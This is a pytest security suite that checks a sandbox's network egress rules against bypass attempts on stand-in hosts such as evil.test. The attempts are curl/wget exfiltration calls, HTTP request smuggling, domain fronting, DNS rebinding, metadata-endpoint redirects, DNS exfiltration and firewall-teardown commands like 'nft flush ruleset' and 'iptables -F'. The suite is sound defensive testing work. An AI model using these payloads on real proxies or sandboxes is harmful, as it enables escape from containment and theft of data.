"""Attacks on the network, in a world of our own: whatever is tried, nobody notes a connection that no rule allows."""

import secrets
import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from cloche.sdk import portal
from tests.security import world as worlds
from tests.security.attacks import Case
from tests.security.world import EVIL, EVIL6, GOOD, GOOD6, INWARD4, INWARD6, Inmate, World

pytestmark = [pytest.mark.root, pytest.mark.timeout(120)]

ALLOW = [
    "good.test", "*.wild.test", "**.both.test", "port.test:8080", "method.test methods=GET,HEAD path=/public", "raw.test:80 raw",
    f"{GOOD}:8080", f"[{GOOD6}]:8080", "upload.test upload_bytes=2000", "to-loopback.test", "to-loopback6.test", "to-private.test", "to-lan.test",
    "to-shared.test", "to-linklocal.test", "to-metadata.test", "to-metadata6.test", "to-alibaba.test", "to-unique.test",
    "to-mapped.test", "to-any.test", "to-both.test", "denied.test", "host.cloche.internal:8080",
]  # fmt: skip
DENY = ["bad.wild.test", "denied.test"]


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with worlds.opened() as made:
        yield made


@pytest.fixture(scope="module")
def ruled(world: World) -> Iterator[Inmate]:
    """A sandbox with rules."""
    made = world.box(allow=ALLOW, deny=DENY)
    yield made
    made.delete()


@pytest.fixture(scope="module")
def open_box(world: World) -> Iterator[Inmate]:
    """A sandbox with the whole of the public network."""
    made = world.box(network="open")
    yield made
    made.delete()


def get(host: str, path: str = "TOKEN", extra: str = "") -> bytes:
    return f"GET /{path} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n".encode()


def raw(data: "bytes | str") -> list[str]:
    return ["raw", data if isinstance(data, str) else data.decode("latin-1")]


class Shell(str):
    """A command instead of an attempt; TOKEN stands for the case's own."""


WAYS = ("connect", "absolute", "socks", "direct")
CASES: list[Case] = []


def case(id: str, threat: str, forbidden: Any, permitted: Any) -> None:
    CASES.append(Case(id, threat, forbidden, permitted))


# A name that no rule allows, by every way out.
for way in WAYS:
    case(
        f"name by {way}",
        "allow and deny",
        [way, "evil.test", "80", "TOKEN"],
        [way, "good.test", "80", "TOKEN"],
    )
    case(f"address by {way}", "allow and deny", [way, EVIL, "8080", "TOKEN"], [way, GOOD, "8080", "TOKEN"])
    case(
        f"denied by {way}",
        "allow and deny",
        [way, "denied.test", "80", "TOKEN"],
        [way, "good.test", "80", "TOKEN"],
    )
    case(
        f"apex by {way}",
        "wildcard apex",
        [way, "wild.test", "80", "TOKEN"],
        [way, "a.wild.test", "80", "TOKEN"],
    )
    case(
        f"port by {way}", "port rule", [way, "port.test", "80", "TOKEN"], [way, "port.test", "8080", "TOKEN"]
    )
for way in ("connect", "absolute", "socks"):
    case(f"six by {way}", "IPv6", [way, EVIL6 if way == "socks" else f"[{EVIL6}]", "8080", "TOKEN"],
         [way, GOOD6 if way == "socks" else f"[{GOOD6}]", "8080", "TOKEN"])  # fmt: skip
case(
    "address in socks",
    "allow and deny",
    ["socks_address", EVIL, "80", "TOKEN"],
    ["socks_address", GOOD, "8080", "TOKEN"],
)
case(
    "six in socks", "IPv6", ["socks_address", EVIL6, "80", "TOKEN"], ["socks_address", GOOD6, "8080", "TOKEN"]
)

# Programs, with and without the variables that name a proxy.
for prefix in ("", "env -i "):
    words = "without variables" if prefix else "with variables"
    for tool in ("curl -sS -m 9", "wget -qO- -T 9 -t 1"):
        program = tool.split()[0]
        case(f"{program} {words}", "proxy env ignored", Shell(f"{prefix}{tool} http://evil.test/TOKEN"),
             Shell(f"{prefix}{tool} http://good.test/TOKEN"))  # fmt: skip
        case(f"{program} https {words}", "proxy env ignored", Shell(f"{prefix}{tool} https://evil.test/TOKEN"),
             Shell(f"{prefix}{tool} {'-k' if program == 'curl' else '--no-check-certificate'} https://good.test/TOKEN"))  # fmt: skip
case("no_proxy for all", "proxy env ignored", Shell("no_proxy='*' NO_PROXY='*' curl -sS -m 9 http://evil.test/TOKEN"),
     Shell("no_proxy='*' NO_PROXY='*' curl -sS -m 9 http://good.test/TOKEN"))  # fmt: skip
case("another proxy", "proxy env ignored", Shell(f"http_proxy=http://{EVIL}:3128 curl -sS -m 9 http://good.test/TOKEN"),
     Shell("curl -sS -m 9 http://good.test/TOKEN"))  # fmt: skip
case("curl by socks", "allow and deny", Shell("curl -sS -m 9 --noproxy '' -x socks5h://127.0.0.1:3128 http://evil.test/TOKEN"),
     Shell("curl -sS -m 9 --noproxy '' -x socks5h://127.0.0.1:3128 http://good.test/TOKEN"))  # fmt: skip
case("own resolution", "proxy env ignored",
     Shell(f"env -i curl -sS -m 9 --resolve good.test:80:{EVIL} http://good.test/TOKEN"),
     Shell("env -i curl -sS -m 9 http://good.test/TOKEN"))  # fmt: skip

# Suffixes that only look alike, and what a denied name hides behind.
for name in ("evilwild.test", "wild.test.evil.test", "bad.wild.test", "BAD.wild.test", "bad.wild.test."):
    case(
        f"suffix {name}",
        "wildcard apex",
        ["absolute", name, "80", "TOKEN"],
        ["absolute", "deep.er.wild.test", "80", "TOKEN"],
    )
case(
    "suffix notboth.test",
    "wildcard apex",
    ["absolute", "notboth.test", "80", "TOKEN"],
    ["absolute", "both.test", "80", "TOKEN"],
)
case(
    "port 22", "port rule", ["connect", "port.test", "22", "TOKEN"], ["connect", "port.test", "8080", "TOKEN"]
)
case("port 25", "port rule", ["socks", "port.test", "25", "TOKEN"], ["socks", "port.test", "8080", "TOKEN"])

# An allowed name that leads inward: resolved, checked and dialled outside.
for name in sorted(name for name in worlds.ZONE if name.startswith("to-")):
    case(
        f"rebinding {name}",
        "DNS rebinding",
        ["absolute", name, "80", "TOKEN"],
        ["absolute", "good.test", "80", "TOKEN"],
    )
    case(
        f"rebinding captured {name}",
        "DNS rebinding",
        ["direct", name, "80", "TOKEN"],
        ["direct", "good.test", "80", "TOKEN"],
    )

# Methods and paths.
for method in ("POST", "PUT", "DELETE", "OPTIONS", "get", "PATCH"):
    request = f"{method} http://method.test/public/TOKEN HTTP/1.1\r\nHost: method.test\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    allowed = (
        "HEAD http://method.test/public/TOKEN HTTP/1.1\r\nHost: method.test\r\nConnection: close\r\n\r\n"
    )
    case(f"method {method}", "method rule", raw(request), raw(allowed))
for path in ("/TOKEN", "/public/../TOKEN", "/public/%2e%2e/TOKEN", "//public/TOKEN", "/publicity/TOKEN", "/public\\..\\TOKEN", "/Public/TOKEN",
             "/%70ublic/../TOKEN", "/public/./../TOKEN"):  # fmt: skip
    request = f"GET http://method.test{path} HTTP/1.1\r\nHost: method.test\r\nConnection: close\r\n\r\n"
    allowed = "GET http://method.test/public/TOKEN HTTP/1.1\r\nHost: method.test\r\nConnection: close\r\n\r\n"
    case(f"path {path}", "method rule", raw(request), raw(allowed))
case("method in a tunnel", "method rule",
     ["raw", "CONNECT method.test:80 HTTP/1.1\r\n\r\nPOST /public/TOKEN HTTP/1.1\r\nHost: method.test\r\nContent-Length: 0\r\n\r\n"],
     ["connect", "good.test", "80", "TOKEN"])  # fmt: skip

# One host outside the tunnel, another inside.
for direct, way in ((False, "tls"), (True, "tls_direct")):
    words = "captured" if direct else "in a tunnel"
    case(f"sni of another {words}", "SNI mismatch", [way, "good.test", "443", "TOKEN", "good.test", "evil.test"],
         [way, "good.test", "443", "TOKEN", "good.test", "good.test"])  # fmt: skip
    case(f"no sni {words}", "SNI mismatch", [way, "good.test", "443", "TOKEN", "good.test", ""],
         [way, "good.test", "443", "TOKEN", "good.test", "good.test"])  # fmt: skip
case(
    "plain on 443",
    "SNI mismatch",
    ["connect", "good.test", "443", "TOKEN"],
    ["connect", "raw.test", "80", "TOKEN"],
)
for inner in ("evil.test:443", f"{EVIL}:443", "169.254.169.254:80"):
    case(f"connect within connect to {inner}", "nested CONNECT",
         raw(f"CONNECT good.test:80 HTTP/1.1\r\n\r\nCONNECT {inner} HTTP/1.1\r\nHost: {inner}\r\n\r\n"),
         ["connect", "good.test", "80", "TOKEN"])  # fmt: skip
case("host header of another", "domain fronting",
     raw("GET http://good.test/TOKEN HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
     raw("GET http://good.test/TOKEN HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"))  # fmt: skip
case("two host headers", "domain fronting",
     raw("GET http://good.test/TOKEN HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
     raw("GET http://good.test/TOKEN HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"))  # fmt: skip
case("captured host header of another", "domain fronting",
     ["raw_direct", "good.test", "80", get("evil.test").decode()], ["raw_direct", "good.test", "80", get("good.test").decode()])  # fmt: skip
case("host header in a tunnel", "domain fronting",
     raw(b"CONNECT good.test:80 HTTP/1.1\r\n\r\n" + get("evil.test")), ["connect", "good.test", "80", "TOKEN"])  # fmt: skip
case("second request to another", "domain fronting",
     raw("GET http://good.test/a HTTP/1.1\r\nHost: good.test\r\n\r\nGET http://evil.test/TOKEN HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
     raw("GET http://good.test/TOKEN HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"))  # fmt: skip
for name, header in (
    ("two lengths", "Content-Length: 3\r\nContent-Length: 60\r\n"),
    ("length and chunks", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"),
    ("odd chunks", "Transfer-Encoding: xchunked\r\n"),
    ("chunks twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
    ("folded header", "X: a\r\n b\r\n"),
    ("space before colon", "Content-Length : 4\r\n"),
):
    smuggled = "0\r\n\r\nGET http://evil.test/TOKEN HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    case(f"smuggled by {name}", "domain fronting",
         raw(f"POST http://good.test/TOKEN HTTP/1.1\r\nHost: good.test\r\n{header}\r\n{smuggled}"),
         raw("POST http://good.test/TOKEN HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"))  # fmt: skip

# Redirects come back to the proxy.
for to in (
    "http://evil.test/TOKEN",
    f"http://{EVIL}/TOKEN",
    "http://169.254.169.254/TOKEN",
    "http://to-loopback.test/TOKEN",
):
    case(f"redirect to {to}", "redirects to denied host", Shell(f"curl -sSL -m 9 http://good.test/redirect/{to}"),
         Shell("curl -sSL -m 9 http://good.test/redirect/http://a.wild.test/TOKEN"))  # fmt: skip

# Not TCP at all.
for address in (GOOD, EVIL, "127.0.0.1", GOOD6):
    case(
        f"datagram to {address}",
        "UDP",
        ["datagram", address, "5353", "TOKEN"],
        ["direct", "good.test", "80", "TOKEN"],
    )
case("datagrams by socks", "UDP", ["socks_udp", EVIL, "5353", "TOKEN"], ["socks", "good.test", "80", "TOKEN"])
case("own name server", "DNS exfil", ["datagram", GOOD, "53", "TOKEN.evil.test"],
     ["direct", "good.test", "80", "TOKEN"])  # fmt: skip


class Effect(NamedTuple):
    """What was noted outside while a case was tried, and what it saw itself."""

    forbidden: list[worlds.Reached]
    permitted: list[worlds.Reached]
    asked: list[str]
    saw: tuple[Any, Any]


TOKENS = {case.id: (secrets.token_hex(8), secrets.token_hex(8)) for case in CASES}


def filled(what: Any, token: str) -> Any:
    if isinstance(what, Shell):
        return what.replace("TOKEN", token)
    return [what[0], *(word.replace("TOKEN", token) for word in what[1:])]


def strangers(noted: list[worlds.Reached]) -> list[worlds.Reached]:
    """Connections to anything but what the rules allow."""
    return [seen for seen in noted if seen.address not in (GOOD, GOOD6)]


def carried(noted: list[worlds.Reached], token: str) -> list[worlds.Reached]:
    """What holds the token, other than the request for a redirection itself."""
    return [seen for seen in noted if token.encode() in seen.first and b" /redirect/" not in seen.first]


@pytest.fixture(scope="module")
def effects(ruled: Inmate, world: World) -> dict[str, Effect]:
    """All attempts in two runs of one program, first what is forbidden: tokens tell whose effect is whose."""
    listed = [case for case in CASES if not isinstance(case.forbidden, Shell)]
    saw, noted = [], []
    for side in (0, 1):
        before = len(world.reached)
        saw.append(ruled.attempts([filled(case[2 + side], TOKENS[case.id][side]) for case in listed]))
        noted.append(world.reached[before:])
        assert strangers(noted[side]) == [], saw[side]
    return {
        case.id: Effect(
            carried(noted[0], TOKENS[case.id][0]),
            carried(noted[1], TOKENS[case.id][1]),
            [name for name in world.asked if TOKENS[case.id][0] in name],
            (saw[0][index], saw[1][index]),
        )
        for index, case in enumerate(listed)
    }


def by_itself(case: Case, ruled: Inmate, world: World) -> Effect:
    saw, noted = [], []
    for side in (0, 1):
        before = len(world.reached)
        result = ruled.exec(filled(case[2 + side], TOKENS[case.id][side]), timeout_s=40)
        saw.append((result.exit_code, result.stdout[-300:], result.stderr[-300:]))
        assert strangers(world.reached[before:]) == [], saw
        noted.append(carried(world.reached[before:], TOKENS[case.id][side]))
    return Effect(
        noted[0], noted[1], [name for name in world.asked if TOKENS[case.id][0] in name], (saw[0], saw[1])
    )


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_an_attack_reaches_nobody_and_its_twin_reaches_its_server(
    case: Case, effects: dict[str, Effect], ruled: Inmate, world: World
) -> None:
    effect = effects[case.id] if case.id in effects else by_itself(case, ruled, world)
    assert effect.forbidden == [], effect.saw[0]
    assert effect.asked == [], effect.saw[0]
    assert effect.permitted, effect.saw[1]


# ── the whole network, and still not inward ────────────────────────────────────────────────────────

SPELLINGS: list[dict[str, Any]] = tomllib.loads(
    Path(__file__).with_name("spellings.toml").read_text("utf-8")
)["row"]
INWARD_CASES = [
    Case(
        f"inward {ascii(row['text'])[1:-1]}",
        "IMDS" if row["kind"] == "metadata" else "odd IP spellings",
        ("absolute", row["text"]),
        ("absolute", "evil.test"),
    )
    for row in SPELLINGS
    if row.get("kind", "public") != "public"
] + [
    Case(f"inward {way} {address}", "private addresses", (way, address), (way, "evil.test"))
    for way in ("connect", "socks", "direct")
    for address in ("127.0.0.1", *INWARD4, *INWARD6)
]


def bracketed(way: str, host: "str | bytes") -> bytes:
    """As the way wants an address that holds colons."""
    raw = host.encode("utf-8", "surrogatepass") if isinstance(host, str) else host
    plain = b":" in raw and way in ("connect", "absolute") and not raw.startswith(b"[")
    return b"[" + raw + b"]" if plain else raw


@pytest.fixture(scope="module")
def inward(open_box: Inmate, world: World) -> dict[str, tuple[list[worlds.Reached], Any]]:
    """All of them in two runs of one program: what was noted of the twins, and what they saw."""
    before = len(world.reached)
    saw = open_box.attempts(
        [[way, bracketed(way, host), "80", "inward"] for _, _, (way, host), _ in INWARD_CASES]
    )
    assert world.reached[before:] == [], saw
    tokens = [secrets.token_hex(8) for _ in INWARD_CASES]
    saw = open_box.attempts(
        [[way, host, "80", token] for (_, _, _, (way, host)), token in zip(INWARD_CASES, tokens, strict=True)]
    )
    return {
        case.id: (carried(world.reached[before:], token), said)
        for case, token, said in zip(INWARD_CASES, tokens, saw, strict=True)
    }


@pytest.mark.parametrize("case", INWARD_CASES, ids=[case.id for case in INWARD_CASES])
def test_an_open_network_does_not_lead_inward(case: Case, inward: Any) -> None:
    twin, said = inward[case.id]  # that nobody was reached is asserted there, for all of them
    assert [seen.address for seen in twin] in ([EVIL], [EVIL6]), said


def test_every_spelling_on_every_way_out_of_a_live_sandbox(ruled: Inmate, world: World) -> None:
    """No spelling reaches what its canonical form may not; those of an allowed name do reach it."""
    ways = ("connect", "absolute", "socks")
    tries: list[list[Any]] = [
        [way, bracketed(way, row["text"]), "80", "spelled"]
        for row in SPELLINGS
        for way in ways
        if len(row["text"].encode("utf-8", "surrogatepass")) < 250
    ]
    assert len(tries) > 300
    before = len(world.reached)
    ruled.attempts(tries)
    assert world.reached[before:] == []
    twins: list[list[Any]] = [
        [way, spelling, "80", secrets.token_hex(6)]
        for way in ways
        for spelling in ("good.test", "GOOD.test", "good.test.", "Good.Test.")
    ]
    saw = ruled.attempts(twins)
    noted = b"".join(note.first for note in world.reached[before:])
    assert [twin for twin in twins if twin[3].encode() not in noted] == [], saw


# ── names ──────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "kind", [16, 1, 28, 5, 15, 33, 255], ids=["TXT", "A", "AAAA", "CNAME", "MX", "SRV", "ANY"]
)
def test_a_name_that_no_rule_matches_is_never_asked_outside(kind: int, ruled: Inmate, world: World) -> None:
    token = secrets.token_hex(12)
    seen = ruled.attempt("name", f"{token}.evil.test", str(kind))
    assert not [name for name in world.asked if token in name], seen
    assert seen["answers"] == 0
    # The twin: a name that a rule matches has an address inside, and is asked for outside when it is used.
    known, _ = ruled.attempts(
        [["name", f"{token}.wild.test", "1"], ["direct", f"{token}.wild.test", "80", token]]
    )
    assert known["answers"] == 1
    assert [name for name in world.asked if token in name]


# ── other ways out ─────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("family", "kind", "protocol"),
    [(2, 3, 1), (10, 3, 58), (2, 3, 255), (17, 3, 768), (2, 5, 132), (40, 1, 0), (31, 3, 1), (38, 5, 0)],
    ids=["icmp", "icmp6", "raw", "packet", "sctp", "vsock", "bluetooth", "alg"],
)
def test_other_sockets_cannot_be_made(family: int, kind: int, protocol: int, ruled: Inmate) -> None:
    other, usual = ruled.attempts(
        [["family", str(family), str(kind), str(protocol)], ["family", "2", "1", "0"]]
    )
    assert other != "made"
    assert usual == "made"


@pytest.mark.parametrize(
    "command",
    [
        "nft flush ruleset",
        "nft delete table inet cloche",
        "ip link add x type dummy",
        "ip addr add 10.9.9.9/32 dev lo",
        "ip route add default dev lo",
        "unshare -Urn true",
        "nsenter -t 1 -n true",
        "iptables -F",
        "echo 1 > /proc/sys/net/ipv4/ip_forward",
        "sysctl -w net.ipv4.conf.all.route_localnet=1",
    ],
)
def test_the_capture_cannot_be_taken_down(command: str, ruled: Inmate, world: World) -> None:
    before = len(world.reached)
    token = secrets.token_hex(6)
    ruled.exec(f"PATH=$PATH:/usr/sbin:/sbin; {command}; env -i curl -sS -m 9 http://evil.test/{token}")
    assert world.reached[before:] == []
    assert f" /{token}\n" in ruled.exec(f"env -i curl -sS -m 9 http://good.test/{token}").stdout


def test_the_host_s_loopback_is_reached_only_by_its_name_and_a_rule(ruled: Inmate, world: World) -> None:
    before = len(world.reached)
    hosts = [("host.cloche.internal", "80"), ("127.0.0.1", "8080"), ("localhost", "8080"), ("::1", "8080")]
    ruled.attempts(
        [[way, bracketed(way, host), port, "loop"] for way in ("absolute", "direct") for host, port in hosts]
    )
    assert world.reached[before:] == []
    seen = ruled.attempt("absolute", "host.cloche.internal", "8080", "loop")
    assert [note.address for note in world.reached[before:]] == ["127.0.0.1"], seen


def test_the_sandbox_s_own_loopback_always_works(ruled: Inmate, world: World) -> None:
    before = len(world.reached)
    program = (
        "import socket, threading\n"
        "s = socket.create_server(('127.0.0.1', 8443))\n"
        "threading.Thread(target=lambda: s.accept()[0].sendall(b'own')).start()\n"
        "print(socket.create_connection(('127.0.0.1', 8443)).recv(3).decode())\n"
    )
    assert ruled.python(program).stdout == "own\n"
    assert world.reached[before:] == []


def test_an_upload_is_cut_at_its_cap(ruled: Inmate, world: World, until: Callable[..., None]) -> None:
    before = len(world.reached)
    send = "head -c {size} /dev/zero | curl -sS -m 20 --data-binary @- http://upload.test/{name}"
    cut = ruled.exec(send.format(size=5_000_000, name="big"))
    assert "reached" not in cut.stdout
    assert "reached" in ruled.exec(send.format(size=100, name="small")).stdout
    until(lambda: any(b"/small" in note.first for note in world.reached[before:]))


def test_rules_that_change_hold_at_once(world: World) -> None:
    made = world.box(allow=["good.test", "evil.test"])
    try:
        token = secrets.token_hex(6)
        assert f"/{token}" in made.exec(f"curl -sS -m 9 http://evil.test/{token}").stdout
        portal.run(made.handle.policy.update(deny=["evil.test"]))
        before = len(world.reached)
        made.exec(f"curl -sS -m 9 http://evil.test/{token}; env -i curl -sS -m 9 http://evil.test/{token}")
        assert world.reached[before:] == []
        assert f"/{token}" in made.exec(f"curl -sS -m 9 http://good.test/{token}").stdout
    finally:
        made.delete()


def test_an_empty_list_is_no_network(world: World) -> None:
    made = world.box(network="rules", allow=[])
    try:
        before = len(world.reached)
        made.exec(
            "curl -sS -m 9 http://good.test/; env -i curl -sS -m 9 http://good.test/; getent hosts good.test"
        )
        assert world.reached[before:] == []
        assert made.works()
    finally:
        made.delete()
